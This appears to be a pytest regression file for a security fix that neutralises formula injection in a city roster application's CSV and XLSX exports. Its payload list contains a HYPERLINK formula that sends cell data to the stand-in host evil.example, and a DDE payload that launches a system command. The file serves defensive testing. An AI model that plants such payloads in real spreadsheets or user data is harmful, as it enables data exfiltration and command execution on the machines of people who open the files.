"""Finding 5: formula injection in exports.

Names beginning with = + - @, a tab or a carriage return came out live in every CSV and XLSX (residents, staff,
league, workers; CLI and API). Every export now goes through geo.core.spreadsheet: CSV text cells that could start a
formula get a leading apostrophe, XLSX text cells are strings, never formulas.
"""

import csv
import io
import os
import stat

import openpyxl
import pytest
from sqlalchemy import text

from geo.core.spreadsheet import neutral, restore
from geo.people.rosters.exporter import export_roster
from geo.people.rosters.importer import import_roster
from tests.city import A1, COMM_A, DISTRICT, staff_the_city
from tests.geo.people.test_rosters import valid_id, write_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def csv_cells(content: bytes) -> list[list[str]]:
    """The cells of a CSV export (UTF-8 with BOM)."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_inert_csv(cells: list[list[str]]) -> None:
    """No cell of the sheet starts a formula."""
    live = [c for row in cells for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not live, live


def assert_inert_xlsx(content: bytes) -> None:
    """Every cell holding a payload is a string cell; none is a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c for c in cells if c.value in PAYLOADS], "the payloads should be in the sheet, as text"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutral_and_back(payload):
    assert not neutral(payload).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(neutral(payload)) == payload
    assert neutral(-3) == -3 and neutral("张伟") == "张伟"


@pytest.fixture
def poisoned(session, city, tmp_path):
    """Residents, a building, staff and grid names that are formulas."""
    import_roster(session, write_csv(tmp_path / "b.csv", [["楼栋编码", "楼栋名称", "经度", "纬度"],
                                                          ["B-1", PAYLOADS[3], 116.41, 39.95]]), "buildings")
    rows = [["姓名", "身份证号", "联系电话", "楼栋", "门牌"]]
    rows += [[p, valid_id(f"1101051980010100{i}"), "", "B-1", f"{i}01"] for i, p in enumerate(PAYLOADS)]
    import_roster(session, write_csv(tmp_path / "r.csv", rows), "residents")
    ids = staff_the_city(session)
    session.execute(text("UPDATE staff SET name = :n WHERE id = :i"), {"n": PAYLOADS[0], "i": ids["w1"]})
    session.execute(text("UPDATE area_records SET name = :n WHERE code = :c"), {"n": PAYLOADS[1], "c": A1})
    return tmp_path


@pytest.mark.parametrize("kind", ["residents", "staff", "buildings"])
def test_roster_exports_are_inert(session, poisoned, kind):
    for suffix in ("csv", "xlsx"):
        path = poisoned / f"{kind}.{suffix}"
        export_roster(session, kind, path, unmasked=True)
        if suffix == "csv":
            assert_inert_csv(csv_cells(path.read_bytes()))
        else:
            assert_inert_xlsx(path.read_bytes())
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, "personal data: owner only"


def test_roster_export_round_trips_through_import(session, poisoned):
    """The apostrophe is our own: importing the CSV back gives the names as they were."""
    path = poisoned / "again.csv"
    export_roster(session, "residents", path, unmasked=True)
    again = import_roster(session, path, "residents")
    assert (again.unchanged, again.errors) == (len(PAYLOADS), [])


def test_league_and_worker_tables_over_the_api_are_inert(client, login, poisoned):
    headers = login("command_center", DISTRICT)
    for endpoint, params in (("league", {"level": "grid"}), ("workers", {})):
        r = client.get(f"/api/v1/analytics/{endpoint}", headers=headers, params=params | {"format": "csv"})
        assert r.status_code == 200, r.text
        cells = csv_cells(r.content)
        assert_inert_csv(cells)
        r = client.get(f"/api/v1/analytics/{endpoint}", headers=headers, params=params | {"format": "xlsx"})
        assert r.status_code == 200 and r.content[:2] == b"PK"
        assert_inert_xlsx(r.content)


def test_plan_assignments_are_inert(client, login, poisoned):
    planner = login("planner", DISTRICT)
    plan = client.post("/api/v1/plans", headers=planner, json={"communities": [COMM_A]}).json()["id"]
    r = client.get(f"/api/v1/plans/{plan}/assignments.csv", headers=planner)
    cells = csv_cells(r.content)
    assert any(PAYLOADS[3] in c for row in cells for c in row)
    assert_inert_csv(cells)
